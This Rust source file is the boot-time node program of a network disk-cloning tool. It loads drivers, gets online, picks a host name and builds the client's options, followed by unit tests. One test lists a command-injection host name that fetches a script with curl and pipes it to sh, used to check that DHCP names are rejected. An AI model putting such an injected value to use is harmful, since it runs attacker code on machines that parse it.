//! The node's own story, from the first line on the console to the end of the session.

use std::fs;
use std::panic::AssertUnwindSafe;
use std::path::Path;
use std::process::ExitCode;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, bail};
use ka_cli::Answer;
use ka_lldp::Listener;
use ka_mac::MacAddr;
use ka_proto::NodeName;

use super::cmdline::CommandLine;
use super::consoles::Consoles;
use super::drivers::Drivers;
use super::network::{self, Online};
use super::{capture, ending};
use crate::log_ring::LogRing;
use crate::run::{Client, System};

/// The join code that the server put beside the boot image.
const JOIN_FILE: &str = "/etc/ka/join";
/// The directory under which the new system is mounted.
const MOUNT_DIR: &str = "/mnt/disk";
/// So often a server is looked for before the machine starts again, as the original did.
const TRIES: &str = "5";
/// Time for the first look at the hardware: network drivers. Later ones are found during the wait for the
/// link.
const DRIVERS_LIMIT: Duration = Duration::from_secs(20);
/// Share of the memory that data on its way may take; a machine of 512 MiB also has to hold its tools.
const BUFFER_SHARE: u64 = 8;
const BUFFER_MIB: std::ops::RangeInclusive<u64> = 16..=64;

/// Runs the node to its end, which is told on every console. Exit code 0: a clone; 1: none.
pub(super) fn run() -> ExitCode {
    let log = Arc::new(LogRing::default());
    let consoles = Consoles::attach(&log);
    if let Err(error) = capture::stray_output(&log) {
        log.push(&format!("warning: {error:#}"));
    }
    // The kernel hands a word of its command line that it does not know, KA_LOG=debug, to init as a variable.
    ka_cli::log_libraries();
    let line = CommandLine::parse(&fs::read_to_string("/proc/cmdline").unwrap_or_default());
    // Kept to the end: a node that waits for its restart, or stays (ka.reboot=no), can still be looked at.
    let mut client = None;
    let told = std::panic::catch_unwind(AssertUnwindSafe(|| tell(&line, &log, &mut client)));
    let result =
        told.unwrap_or_else(|_| Err("the node program failed (see above); this is a fault of KA".to_owned()));
    let is_complete = result.is_ok();
    ending::conclude(&log, &consoles, &result, line.reboot);
    ExitCode::from(u8::from(!is_complete))
}

/// The whole story; the error is the last line before the pause. `client` is the program once it has started.
fn tell(line: &CommandLine, log: &Arc<LogRing>, client: &mut Option<Client>) -> Result<(), String> {
    let lldp = Listener::default();
    let options = get_ready(line, log, &lldp).map_err(|error| format!("{error:#}"))?;
    let options = ka_cli::parse(options).map_err(|answer| match answer {
        Answer::Text(text) | Answer::Wrong(text) => text,
    })?;
    let started = Client::start(options, System::Memory, Arc::clone(log), || lldp);
    let started = started.map_err(|failure| failure.to_string())?;
    let ended = client.insert(started).run();
    ended.map_err(|failure| failure.to_string())
}

/// Everything before the server is looked for. Returns the options of an ordinary `ka-client`.
fn get_ready(line: &CommandLine, log: &Arc<LogRing>, lldp: &Listener) -> anyhow::Result<Vec<String>> {
    log.push(&format!("KA node {}", env!("CARGO_PKG_VERSION")));
    for warning in &line.warnings {
        log.push(&format!("warning: {warning}"));
    }
    if let Some(error) = line.errors.first() {
        bail!("{error}");
    }
    if !line.kamethod {
        bail!(
            "the kernel command line has no kamethod: this machine is not to be cloned, and nothing was done \
             (choose the entry kamethod of the boot menu)"
        );
    }
    if !Path::new(JOIN_FILE).exists() {
        bail!(
            "the boot image has no {JOIN_FILE}: boot the one that ka-server --pxe serves, which has the run's join code"
        );
    }
    let mut drivers = Drivers::open()?;
    log.push("loading network drivers");
    let loaded = drivers.settle(DRIVERS_LIMIT, |_| true);
    log.push(&format!("drivers: {}", loaded.describe()));
    for problem in &loaded.problems {
        log.push(&format!("warning: {problem}"));
    }
    let online = network::go_online(line, &mut drivers, log, lldp)?;
    let name = choose_name(line.name.as_deref(), online.host_name.as_deref(), online.mac, log)?;
    fs::write("/proc/sys/kernel/hostname", &name).context("setting the host name")?;
    log.push(&format!("this node is {name}"));
    Ok(options(line, &online, &name, memory_bytes()))
}

/// Returns `ka.name=`, else the name from the DHCP server, else the MAC address. A DHCP server is a stranger.
/// Its name is taken as far as it is a host name, and `localhost` is none.
fn choose_name(
    given: Option<&str>,
    leased: Option<&str>,
    mac: MacAddr,
    log: &LogRing,
) -> anyhow::Result<String> {
    if let Some(given) = given {
        NodeName::new(given).with_context(|| format!("kernel command line: ka.name={given}"))?;
        return Ok(given.to_owned());
    }
    if let Some(leased) = leased {
        // Some servers end it with the root's dot.
        match NodeName::new(leased.strip_suffix('.').unwrap_or(leased)) {
            Ok(name) if name.is_nameless() => {}
            Ok(name) => return Ok(name.as_str().to_owned()),
            Err(error) => log.push(&format!(
                "warning: the DHCP server's name for this node is not taken: {error}"
            )),
        }
    }
    Ok(format!("node-{}", mac.to_string().replace(':', "")))
}

/// Returns the command line of a `ka-client` that does what this node is to do.
fn options(line: &CommandLine, online: &Online, name: &str, memory_bytes: Option<u64>) -> Vec<String> {
    let mut words: Vec<String> = [
        "ka-client",
        "--join-file",
        JOIN_FILE,
        "--mount-dir",
        MOUNT_DIR,
        "--no-reboot",
    ]
    .map(str::to_owned)
    .into();
    let mut add = |option: &str, value: String| words.extend([option.to_owned(), value]);
    add("--retries", TRIES.to_owned());
    add("--session", line.session.clone());
    add("--name", name.to_owned());
    if let Some(server) = &line.server {
        add("--host", server.clone());
    }
    if let Some(addr) = online.addr {
        add("--listen", addr.to_string());
    }
    if let Some(bytes) = memory_bytes {
        let mib = (bytes >> 20) / BUFFER_SHARE;
        add(
            "--buffer",
            format!("{}M", mib.clamp(*BUFFER_MIB.start(), *BUFFER_MIB.end())),
        );
    }
    for disk in &line.disks {
        add("--disk", disk.clone());
    }
    if line.erase_members {
        words.push("--erase-members".to_owned());
    }
    words
}

/// Returns all the memory of this machine (`MemTotal` of proc_meminfo(5)).
fn memory_bytes() -> Option<u64> {
    let text = fs::read_to_string("/proc/meminfo").ok()?;
    let line = text.lines().find_map(|line| line.strip_prefix("MemTotal:"))?;
    let kib: u64 = line.trim().strip_suffix("kB")?.trim().parse().ok()?;
    Some(kib << 10)
}

#[cfg(test)]
mod tests {
    use super::*;

    const MAC: MacAddr = MacAddr([0x52, 0x54, 0, 0x12, 0x34, 0x56]);

    fn online() -> Online {
        Online {
            mac: MAC,
            addr: Some([10, 0, 1, 9].into()),
            host_name: None,
        }
    }

    #[test]
    fn the_nodes_options_are_those_of_an_ordinary_client() {
        let line = CommandLine::parse(
            "kamethod ka.server=10.0.1.1 ka.session=room ka.disk=sda=/dev/vda ka.disk=sdb=/dev/vdb \
             ka.erase-members",
        );
        let words = options(&line, &online(), "node7", Some(1 << 30));
        let Ok(options) = ka_cli::parse::<crate::cli::Options>(words) else {
            panic!("not understood");
        };
        assert_eq!(options.host.as_deref(), Some("10.0.1.1"));
        assert_eq!(
            (options.session.as_str(), options.name.as_deref()),
            ("room", Some("node7"))
        );
        assert_eq!(options.listen, Some([10, 0, 1, 9].into()));
        assert_eq!((options.disks.len(), options.retries), (2, 5));
        assert!(options.erase_members);
        assert_eq!(options.buffer.0, 64 << 20);
        assert!(options.no_reboot, "the first process does that");
    }

    #[test]
    fn a_small_machine_gets_a_smaller_buffer() {
        let line = CommandLine::parse("kamethod");
        for (memory, expected) in [(64u64 << 20, "16M"), (256 << 20, "32M"), (64 << 30, "64M")] {
            let words = options(&line, &online(), "n", Some(memory));
            let at = words.iter().position(|word| word == "--buffer").unwrap();
            assert_eq!(words[at + 1], expected);
        }
    }

    #[test]
    fn the_name_is_the_operators_then_the_dhcp_servers_then_the_hardwares() {
        let log = LogRing::default();
        let name = |given, leased| choose_name(given, leased, MAC, &log);
        assert_eq!(name(Some("a"), Some("b")).unwrap(), "a");
        assert_eq!(name(None, Some("b")).unwrap(), "b");
        assert_eq!(name(None, None).unwrap(), "node-525400123456");
        let long = "x".repeat(65);
        assert_eq!(name(None, Some(&long)).unwrap(), "node-525400123456");
        for stranger in [
            "n7$(curl${IFS}10.0.0.9|sh)",
            "a b",
            "a_b",
            "10.0.1.9",
            "localhost",
            "localhost.localdomain",
        ] {
            assert_eq!(
                name(None, Some(stranger)).unwrap(),
                "node-525400123456",
                "{stranger}"
            );
        }
        assert_eq!(name(None, Some("n7.lab.")).unwrap(), "n7.lab");
        for wrong in [long.as_str(), "a;b", "a_b"] {
            let error = format!("{:#}", name(Some(wrong), None).unwrap_err());
            assert!(error.contains(&format!("ka.name={wrong}")), "{error}");
        }
    }
}
